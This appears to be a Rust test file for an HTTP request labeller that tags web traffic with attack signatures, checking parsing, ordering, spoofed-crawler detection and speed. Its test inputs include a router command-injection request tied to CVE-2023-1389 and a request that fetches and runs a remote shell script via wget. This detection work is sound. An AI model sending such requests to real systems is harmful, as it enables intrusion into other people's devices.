use std::time::Duration;

use rustix::time::{ClockId, clock_gettime};

use super::*;
use crate::Category;
use crate::files::tests::written;

/// Words that only specialists know, or that say in a picture what can be said plainly; the
/// explanations do without.
const JARGON: &str = "\
    0-day arbitrary believes bruteforce brute-force buffer bypass bypassed bypasses climb climbs \
    csrf deserialisation deserialization deserialize deserialized endpoint endpoints enumerate \
    enumeration exfiltrate exfiltration exploit exploitation exploited exploiting exploits fuzzing \
    hence idor ioc iocs lends lfi middleware obey obeys payload payloads planted poc pocs pre-auth \
    preauth rce rfi riddle sanitise sanitize smuggled spoofed sqli ssrf ssti swallows thereby \
    thieves traversal unauth unauthenticated xss xxe";
/// Longest sentence of an explanation, in characters. A longer one must be read twice.
const MAX_SENTENCE_CHARS: usize = 200;

const OWN: &str = r#"
    [[signature]]
    id = "own"
    title = "Ours"
    category = "recon"
    explanation = "What we look for ourselves, and nobody else in the world does."
    match.path.equals = "/own"
    examples = ["GET /own HTTP/1.1"]
"#;

fn ids(labeller: &Labeller, raw: &[u8]) -> Vec<String> {
    labeller
        .describe(raw, None)
        .labels
        .iter()
        .map(|label| label.signature.id.clone())
        .collect()
}

#[test]
fn a_signature_that_asks_for_a_rare_header_waits_for_its_name() {
    for (asks, words) in [
        ("header.X-Odd.exists = true", Some(&["x-odd"][..])),
        ("header.user-agent.regex = '^a'", None),
        ("header.x-odd.contains = 'abcd'", Some(&["abcd"])),
        (
            "any = [{ header.x-odd.exists = true }, { header.even.regex = '^[0-9]' }]",
            Some(&["even", "x-odd"]),
        ),
        (
            "any = [{ header.x-odd.exists = true }, { path.equals = '/' }]",
            None,
        ),
    ] {
        let condition: Condition = toml::from_str(asks).unwrap();
        let words = words.map(|all| all.iter().map(ToString::to_string).collect());
        assert_eq!(condition.words(), words, "{asks}");
    }
}

#[test]
fn every_built_in_signature_is_as_it_should_be() {
    for signature in &written() {
        let (id, explanation) = (&signature.id, signature.explanation.to_lowercase());
        assert!(!signature.examples.is_empty(), "{id}: no example");
        assert!(
            explanation.ends_with(['.', '!', '?']),
            "{id}: {explanation}"
        );
        let jargon = explanation.split(|char: char| !char.is_alphanumeric() && char != '-');
        let jargon: Vec<_> = jargon
            .filter(|word| JARGON.split_whitespace().any(|it| it == *word))
            .collect();
        assert!(jargon.is_empty(), "{id}: {jargon:?}");
    }
}

#[test]
fn an_explanation_is_there_once_and_has_sentences_that_are_read_once() {
    let mut all = HashSet::new();
    for signature in written() {
        let (id, explanation) = (signature.id, signature.explanation);
        let mut sentences = HashSet::new();
        for sentence in explanation.split_inclusive(['.', '!', '?']) {
            // A dot in a name such as wp-config.php also splits; its parts are never longer than
            // the name.
            let chars = sentence.trim().chars().count();
            assert!(chars <= MAX_SENTENCE_CHARS, "{id}: {chars}: {sentence}");
            let is_new = chars < 20 || sentences.insert(sentence.trim().to_owned());
            assert!(is_new, "{id} says twice: {sentence}");
            assert!(!sentence.ends_with(" so."), "{id}: {sentence}");
        }
        assert!(all.insert(explanation.clone()), "{id}: {explanation}");
    }
}

#[test]
fn every_signature_applies_to_its_examples() {
    Labeller::new(written(), Index::default())
        .check_examples()
        .unwrap();
}

#[test]
fn every_id_is_there_once() {
    let labeller = Labeller::built_in();
    let mut ids = HashSet::new();
    let twice = labeller
        .signatures()
        .map(|it| it.id.clone())
        .filter(|id| !ids.insert(id.clone()))
        .collect::<Vec<_>>();
    assert!(twice.is_empty(), "{twice:?}");
}

#[test]
fn a_file_extends_or_replaces() {
    let extended = Labeller::with(OWN).unwrap();
    assert!(extended.signatures().len() > 400);
    assert!(ids(&extended, b"GET /own HTTP/1.1\r\n\r\n").contains(&"own".to_owned()));
    let replaced = Labeller::with(&format!("replace = true\n{OWN}")).unwrap();
    assert_eq!(replaced.signatures().len(), 1);
    // A signature of the file replaces the built-in one with the same id.
    let id = &written()[0].id.clone();
    let same = Labeller::with(&OWN.replace("\"own\"", &format!("\"{id}\""))).unwrap();
    assert_eq!(
        same.signatures()
            .filter(|signature| signature.id == *id)
            .count(),
        1
    );
    assert_eq!(same.signatures().next().unwrap().title, "Ours");
}

#[test]
fn a_broken_file_is_refused_with_line_and_reason() {
    for (broken, line, reason) in [
        (OWN.replace("\"own\"", "\"Own!\""), 2, "Own!: id: "),
        (
            OWN.replace("category = \"recon\"", "category = \"evil\""),
            5,
            "unknown variant `evil`",
        ),
        (
            OWN.replace("match.path.equals", "match.path.equal"),
            7,
            "unknown field `equal`",
        ),
        (
            OWN.replace("match.path.equals = \"/own\"", "match.path.regex = \"(\""),
            2,
            "own: regex parse error",
        ),
        (
            OWN.replace("match.path.equals = \"/own\"", "match = {}"),
            2,
            "own: match: ",
        ),
        (
            OWN.replace(
                "What we look for ourselves, and nobody else in the world does.",
                "x",
            ),
            2,
            "own: explanation: ",
        ),
        (
            OWN.replace("examples", "cve = [\"CVE-21-1\"]\nexamples"),
            2,
            "own: cve: CVE-21-1",
        ),
        (
            OWN.replace("examples", "references = [\"http://x\"]\nexamples"),
            2,
            "own: references: http://x",
        ),
        (
            format!("{OWN}{OWN}"),
            10,
            "own: another signature has this id",
        ),
        (
            OWN.replace("GET /own", "GET /other"),
            2,
            "own: it does not apply to its example",
        ),
        ("[[signature]".to_owned(), 1, ""),
    ] {
        let Err(error) = Labeller::with(&broken) else {
            panic!("taken: {broken}")
        };
        assert!(
            error.line == line && error.reason.starts_with(reason),
            "{error} for {broken}"
        );
    }
}

#[test]
fn the_most_specific_comes_first() {
    let labeller = Labeller::built_in();
    let raw = b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1\r\nUser-Agent: Go-http-client/1.1\r\n\r\n";
    let labels = labeller.describe(raw, None).labels;
    let first = &labels[0].signature;
    assert_eq!(
        (first.category, &*first.cve),
        (Category::Exploit, &["CVE-2023-1389".to_owned()][..])
    );
    assert_eq!(
        labels.last().unwrap().signature.category,
        Category::Ordinary
    );
    let evidence: Vec<_> = labels[0]
        .evidence
        .iter()
        .map(|range| &raw[range.clone()])
        .collect();
    assert!(
        evidence
            .iter()
            .any(|bytes| bytes.starts_with(b"/cgi-bin/luci/;stok=/locale")),
        "{evidence:?}"
    );
}

#[test]
fn the_network_tells_who_lies() {
    let labeller = Labeller::built_in();
    let raw = b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\n\r\n";
    let ids_from = |asn| {
        let origin = Origin {
            asn: Some(asn),
            ..Origin::default()
        };
        let labels = labeller.describe(raw, Some(&origin)).labels;
        labels
            .iter()
            .map(|label| label.signature.id.clone())
            .collect::<Vec<_>>()
    };
    assert!(ids_from(64496).contains(&"googlebot-false-claim".to_owned()));
    assert!(!ids_from(15169).contains(&"googlebot-false-claim".to_owned()));
    assert!(ids_from(398_324).iter().any(|id| id.contains("censys")));
    assert!(!ids(&labeller, raw).contains(&"googlebot-false-claim".to_owned()));
}

#[test]
fn no_bytes_panic_and_evidence_lies_within_them() {
    let labeller = Labeller::built_in();
    let mut random = 1_u64;
    let mut next = |below: usize| {
        random = random
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (random >> 33) as usize % below
    };
    let signatures = written();
    let examples = signatures.iter().flat_map(|signature| &signature.examples);
    for example in examples.map(|example| Signature::example_bytes(example)) {
        for _ in 0..4 {
            let mut raw = example[..next(example.len() + 1)].to_vec();
            for _ in 0..next(4) {
                let at = next(raw.len() + 1);
                raw.splice(
                    at..at,
                    *b"\xff%2\0"
                        .get(next(4)..)
                        .and_then(<[u8]>::first_chunk::<1>)
                        .unwrap_or(b"$"),
                );
            }
            for label in labeller.describe(&raw, None).labels {
                assert!(
                    label
                        .evidence
                        .iter()
                        .all(|range| range.start < range.end && range.end <= raw.len())
                );
            }
        }
    }
}

/// Returns the CPU time of this thread, to which other work of the machine adds little; the best of
/// five runs.
fn time(labeller: &Labeller, raw: &[u8]) -> Duration {
    let run = |_| {
        let start = cpu_time();
        let _ = labeller.describe(raw, None);
        cpu_time() - start
    };
    (0..5).map(run).min().unwrap()
}

fn cpu_time() -> Duration {
    let time = clock_gettime(ClockId::ThreadCPUTime);
    Duration::try_from(time).unwrap()
}

#[test]
fn hostile_requests_take_time_in_proportion() {
    let labeller = Labeller::built_in();
    for unit in [
        "../",
        "%252e",
        "${",
        "${lower:j}",
        "select ",
        "<",
        "' or ",
        "wget a ",
        "{{",
        "a=b&",
        "$(",
        "aB3",
        " ",
    ] {
        let request = |bytes: usize| {
            let filler = unit.repeat(bytes / unit.len());
            format!("POST /{filler}?q={filler} HTTP/1.1\r\nX: {filler}\r\n\r\n{filler}")
                .into_bytes()
        };
        let (short, long) = (request(2_000), request(16_000));
        // The first run compiles the expressions.
        let _ = labeller.describe(&long, None);
        let (short, long) = (time(&labeller, &short), time(&labeller, &long));
        // The request is eight times as long: quadratic time would be 64 times as much.
        assert!(
            long < short * 24 + Duration::from_millis(5),
            "{unit}: {short:?}, {long:?}"
        );
    }
}

#[test]
fn what_would_take_too_long_is_given_up_and_said() {
    let labeller = Labeller::built_in();
    let is_partial = |raw: &[u8]| labeller.describe(raw, None).is_partial;
    // The text repeats the beginnings of what signatures look for. Their end comes only at the very
    // end; without any end, nothing is tried.
    let words = b"select union script passwd jndi ldap wget cmd exec php cgi-bin admin ../ ";
    let many = words.repeat(900);
    assert!(is_partial(&[&many[..], b";sh"].concat()));
    assert!(!is_partial(&many));
    assert!(!is_partial(words));
    assert!(!is_partial(
        b"GET /cgi-bin/x?cmd=wget+http://192.0.2.7/x.sh;sh+x.sh HTTP/1.1\r\n\r\n"
    ));
    assert!(!is_partial(&b"x".repeat(65_536)));
}

#[test]
fn one_product_leads_where_several_fit_the_same_bytes() {
    let signature = |id: &str, product: &str, is_generic: bool| {
        format!(
            "[[signature]]\nid = \"{id}\"\ntitle = \"x\"\ncategory = \"exploit\"\nproduct = \"{product}\"\n\
             {}\nexplanation = \"What we look for ourselves, and nobody else in the world does.\"\n\
             match.path.contains = \"/upload.cgi\"\n",
            if is_generic {
                "generic = true"
            } else {
                "cve = [\"CVE-2020-0001\"]"
            }
        )
    };
    let file = [
        "replace = true\n".to_owned(),
        signature("one", "One", false),
        signature("other", "Other", false),
        signature("one-more", "One", false),
        signature("kind", "Any", true),
    ];
    let labeller = Labeller::with(&file.concat()).unwrap();
    let found = labeller.describe(b"GET /upload.cgi HTTP/1.1\r\n\r\n", None);
    let ids: Vec<_> = found
        .labels
        .iter()
        .map(|label| &*label.signature.id)
        .collect();
    assert_eq!(ids, ["one", "one-more", "kind", "other"]);
}
